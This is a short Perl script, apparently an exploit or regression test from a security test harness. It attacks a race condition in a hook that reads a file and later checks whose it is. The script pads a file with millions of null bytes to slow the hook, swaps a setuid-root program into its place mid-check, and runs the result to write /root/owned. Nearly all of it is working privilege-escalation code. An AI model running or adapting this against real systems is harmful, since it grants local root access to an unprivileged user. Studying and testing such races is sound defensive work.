# Lets a hook read a program of its own, and puts a setuid program of root in its place before the hook asks whose the file is. A hook that gives
# its new file the permissions of another file than it has read makes the account's program a setuid program of root.
use strict;
use warnings;
use Attack;
use Kernel;

my ($path, $setuid) = @ARGV;
# Bytes behind a program do no harm. There are many, so that the hook has something to do.
write_file($path, read_file('/usr/bin/touch') . "\0" x 12_000_000 . 'language = fr');
my $watch = watch($path, CLOSE_NOWRITE);
ready();
wait_for { upgraded() };
events($watch);
until (events($watch)) {
    exit 0 if over();
}
rename $setuid, $path or die "$path: $!\n";
tried();
wait_for { -s $path > 1_000_000 };
chmod 0755, $path;
system($path, '/root/owned');
